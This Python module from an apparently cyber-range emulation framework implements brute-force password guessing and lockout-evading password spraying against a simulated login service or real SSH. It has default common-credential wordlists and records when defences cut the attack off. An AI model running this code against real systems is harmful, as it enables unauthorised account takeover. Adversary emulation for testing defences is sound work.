"""Credential access: T1110.001 password guessing and T1110.003 password spraying against a
login service (the twin's line-based ``login`` dialogue or real SSH), over real kernel TCP
connections whose every segment is counted with TCP_INFO (``tcpi_segs_out``).
"""
from __future__ import annotations

import time

from cyberrange.attack.spec import Param, technique
from cyberrange.attack.techniques.common import Blocked, Result, conclude, parse_services
from cyberrange.attack.techniques.tcp import login_attempt, ssh_session

PROTOCOLS = ("login", "ssh")
DEAD = ("refused", "timeout", "unreachable")            # the service cannot be reached
NOT_SERVICE = ("not-login", "not-ssh", "no-password-auth")  # reached, but no guessing possible
ANSWERED = ("ok", "bad")                                 # the service ran a whole dialogue


def attempt(protocol: str, ip: str, port: int, user: str, password: str,
            connect_timeout: float, io_timeout: float) -> tuple[str, dict]:
    """One guess on its own connection: (status, flow); status ok | bad | one of DEAD |
    one of NOT_SERVICE | error."""
    if protocol == "ssh":
        status, fl, _info = ssh_session(ip, port, user, password, (), connect_timeout, io_timeout)
        return status, fl
    return login_attempt(ip, port, user, password, connect_timeout, io_timeout)


def _protocol(params: dict) -> str:
    protocol = str(params["protocol"])
    if protocol not in PROTOCOLS:
        raise ValueError(f"protocol must be one of {', '.join(PROTOCOLS)} (got {protocol!r})")
    return protocol


class CutGuard:
    """Tells a service the defence cut mid-step from one that never answered: a service that
    answered a dialogue (``ANSWERED``) earlier in this step and now refuses, times out or stops
    talking was blocked (``Result.cut``); one that never answered is judged as before (dead or
    not a login service)."""

    def __init__(self, res: Result):
        self.res = res
        self.answered: dict[tuple[str, int], int] = {}

    def saw(self, ip: str, port: int, status: str) -> bool:
        """Note one attempt's status; True when it shows the service was cut off."""
        if status in ANSWERED:
            self.answered[(ip, port)] = self.answered.get((ip, port), 0) + 1
            return False
        n = self.answered.get((ip, port), 0)
        if n:
            self.res.cut(f"{ip}:{port} stopped answering ({status}) after {n} attempts "
                         f"it answered: a block or an isolation mid-step")
            return True
        return False


def _finish(res: Result, services, creds, dead: set) -> Result:
    res.facts = {"credentials": creds,
                 "compromised": list(dict.fromkeys(c["target"].rsplit(":", 1)[0] for c in creds))}
    return conclude(res, creds, services and len(dead) == len(services)
                    and "every service refused or dropped the connections")


_COMMON = {
    "protocol": Param(str, "login", "login: the twin's line-based login dialogue; ssh: real SSH "
                                    "(password authentication, paramiko)"),
    "pause": Param((int, float), 0.05, "seconds between attempts"),
    "connect_timeout": Param((int, float), 2.5, "seconds to wait for a connection (between the "
                                                "kernel's 1 s and 3 s SYN retransmissions)"),
    "io_timeout": Param((int, float), 5.0, "seconds to wait for each answer of the service"),
}


@technique(
    "T1110.001",
    "Brute Force: Password Guessing against a login service",
    "credential-access",
    {
        "service": Param(str, "login", "service type to attack (the twin's login service)"),
        "ports": Param(list, [22, 23, 2222], "ports taken as login services from ip:port targets"),
        "usernames": Param(list, ["root", "admin"], "user names to try"),
        "passwords": Param(list, ["password", "123456", "admin"], "passwords to try, in order"),
        "stop_on_success": Param(bool, True, "stop guessing an account once its password is found"),
        **_COMMON,
    },
    produces=("credentials", "compromised"),
    target_kind="service",
)
def brute_force(targets: list[str], params: dict) -> Result:
    res = Result(start=time.time())
    protocol = _protocol(params)
    ports = [int(p) for p in params["ports"]]
    users = [str(u) for u in params["usernames"]]
    passwords = [str(p) for p in params["passwords"]]
    pause = float(params["pause"])
    stop_on_success = bool(params["stop_on_success"])
    connect_timeout = float(params["connect_timeout"])  # between SYN RTOs 1 s and 3 s
    io_timeout = float(params["io_timeout"])
    services = parse_services(targets, ports, res.log)

    creds, dead, attempts = [], set(), 0
    guard = CutGuard(res)
    first = True
    try:
        for ip, port in services:
            stop = False
            for user in users:
                if stop:
                    break
                for pw in passwords:
                    if not first and pause > 0:
                        time.sleep(pause)
                    first = False
                    status, fl = attempt(protocol, ip, port, user, pw, connect_timeout,
                                         io_timeout)
                    attempts += 1
                    res.flows.append(fl)
                    if guard.saw(ip, port, status):
                        dead.add((ip, port))
                        stop = True
                        break
                    if status == "ok":
                        creds.append({"target": f"{ip}:{port}", "user": user, "password": pw})
                        if stop_on_success:
                            break
                    elif status in DEAD or status in NOT_SERVICE:
                        res.log.append(f"{ip}:{port}: {status} after {fl['packets']} packet(s); "
                                       f"no further guesses at this service")
                        if status in DEAD:
                            dead.add((ip, port))
                        stop = True
                        break
    except Blocked as exc:          # the actor's own node stopped sending: nothing more to try
        res.cut(exc.reason)
    res.log.append(f"{attempts} {protocol} attempts at {len(services)} services, "
                   f"{len(creds)} credentials")
    return _finish(res, services, creds, dead)


@technique(
    "T1110.003",
    "Brute Force: Password Spraying",
    "credential-access",
    {
        "ports": Param(list, [22], "ports taken as login services (ip:port targets keep "
                                   "theirs when listed here)"),
        "usernames": Param(list, ["root", "admin", "operator", "backup"],
                           "accounts to spray, at every service"),
        "passwords": Param(list, ["Winter2024!"], "one password per round (few rounds)"),
        "round_pause": Param((int, float), 30.0, "seconds between rounds, to stay under the "
                                                 "lockout threshold"),
        **_COMMON,
    },
    produces=("credentials", "compromised"),
    target_kind="service",
)
def password_spray(targets: list[str], params: dict) -> Result:
    """Few passwords, many accounts: round r tries password r for every user at every service,
    then waits ``round_pause`` (keep it above the lockout observation window)."""
    res = Result(start=time.time())
    protocol = _protocol(params)
    ports = [int(p) for p in params["ports"]]
    users = [str(u) for u in params["usernames"]]
    passwords = [str(p) for p in params["passwords"]]
    pause = float(params["pause"])
    round_pause = float(params["round_pause"])
    connect_timeout = float(params["connect_timeout"])
    io_timeout = float(params["io_timeout"])
    services = parse_services(targets, ports, res.log)

    creds, dead, skip, done, attempts = [], set(), set(), set(), 0
    guard = CutGuard(res)
    first = True
    try:
        for r, pw in enumerate(passwords):
            if r and round_pause > 0 and len(skip) < len(services):
                time.sleep(round_pause)
            for ip, port in services:
                if (ip, port) in skip:
                    continue
                for user in users:
                    if (ip, port, user) in done:
                        continue            # this account is already ours
                    if not first and pause > 0:
                        time.sleep(pause)
                    first = False
                    status, fl = attempt(protocol, ip, port, user, pw, connect_timeout,
                                         io_timeout)
                    attempts += 1
                    res.flows.append(fl)
                    if guard.saw(ip, port, status):
                        skip.add((ip, port))
                        dead.add((ip, port))
                        break
                    if status == "ok":
                        creds.append({"target": f"{ip}:{port}", "user": user, "password": pw})
                        done.add((ip, port, user))
                    elif status in DEAD or status in NOT_SERVICE:
                        res.log.append(f"{ip}:{port}: {status} after {fl['packets']} packet(s); "
                                       f"left out of the spray")
                        skip.add((ip, port))
                        if status in DEAD:
                            dead.add((ip, port))
                        break
            res.log.append(f"round {r + 1} ({pw!r}): {len(creds)} credentials so far")
    except Blocked as exc:          # the actor's own node stopped sending: nothing more to try
        res.cut(exc.reason)
    res.log.append(f"{attempts} {protocol} attempts at {len(services)} services")
    return _finish(res, services, creds, dead)
